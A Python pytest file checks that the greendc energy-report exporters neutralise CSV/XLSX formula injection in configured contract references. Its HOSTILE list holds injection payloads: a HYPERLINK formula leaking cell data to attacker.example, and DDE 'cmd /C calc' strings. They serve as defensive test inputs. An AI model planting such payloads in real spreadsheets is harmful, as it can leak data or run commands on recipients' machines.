"""Spreadsheet safety: no text greendc writes to CSV or XLSX is ever read as a formula.

Contract references, notes and labels come from configuration; a reference such as
``=HYPERLINK("http://x", "GO")`` used to become a live formula in the XLSX report and a raw
cell in the CSV (OWASP "CSV injection").
"""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from greendc.config import load_config
from greendc.exporters.report import Period, ReportRequest, write_report
from greendc.exporters.report.fmt import FORMULA_TRIGGERS, cell_text
from greendc.model import Reading
from greendc.store import EmbeddedStore

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1, "GO certificate")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_leading_formula_character_is_neutralised(text: str) -> None:
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize("text", ["GO-1", "I-REC SG 2026-11", "", "kWh", "PUE1 (interim)", "—"])
def test_plain_text_is_unchanged(text: str) -> None:
    assert cell_text(text) == text


@given(st.text())
def test_no_text_comes_out_starting_a_formula(text: str) -> None:
    out = cell_text(text)
    assert not out.startswith(FORMULA_TRIGGERS)
    assert out in (text, "'" + text)


def _report(tmp_path: Path) -> Path:
    """A one-site month whose contract references are hostile, written as CSV and XLSX."""
    site = {
        "name": "sg1",
        "timezone": "UTC",
        "grid_zone": "SG",
        "installed_it_kw": 100,
        "pue_category": 1,
        "meters": [
            {"name": "incomer", "role": "facility"},
            {"name": "ups", "role": "it", "point": "ups_output"},
        ],
        "contracts": [
            {"month": "2026-03", "kind": "go", "energy_kwh": 1000, "reference": HOSTILE[0]},
            {"month": "2026-03", "kind": "ppa", "energy_kwh": 1000, "reference": HOSTILE[1]},
        ],
    }
    config = tmp_path / "greendc.yaml"
    store_path = tmp_path / "store.sqlite"
    config.write_text(
        yaml.safe_dump(
            {
                "sinks": {"embedded": {"path": str(store_path)}},
                "sites": [site],
                "kpi": {"max_gap_seconds": 3600},
            }
        )
    )
    start = int(datetime(2026, 3, 1, tzinfo=UTC).timestamp())
    end = int(datetime(2026, 4, 1, tzinfo=UTC).timestamp())
    readings = [
        Reading("sg1", meter, role, t * 1000, {"energy_wh": (t - start) / 3600 * watts})
        for t in range(start, end + 1, 3600)
        for meter, role, watts in (("incomer", "facility", 150_000.0), ("ups", "it", 100_000.0))
    ]
    store = EmbeddedStore(store_path)
    store.write(readings)
    store.close()
    out = tmp_path / "out"
    out.mkdir()
    request = ReportRequest(
        load_config(config, env={}),
        Period.parse_month("2026-03"),
        out,
        formats=("csv", "xlsx"),
        source="embedded",
    )
    assert write_report(request).computed
    return out


def test_hostile_contract_references_are_text_in_csv_and_xlsx(tmp_path: Path) -> None:
    out = _report(tmp_path)
    with (out / "greendc-report-2026-03.csv").open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    cells = [c for r in rows for c in r]
    assert any(c.startswith("'" + HOSTILE[0]) for c in cells), "the reference is kept, as text"
    assert any(c.startswith("'" + HOSTILE[1]) for c in cells)
    for c in cells:
        # Numbers may be negative; any other cell must not start a formula.
        if not _is_number(c):
            assert not c.startswith(FORMULA_TRIGGERS), c

    wb = load_workbook(out / "greendc-report-2026-03.xlsx")
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value
    assert any(t.startswith("'" + HOSTILE[0]) for t in texts)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
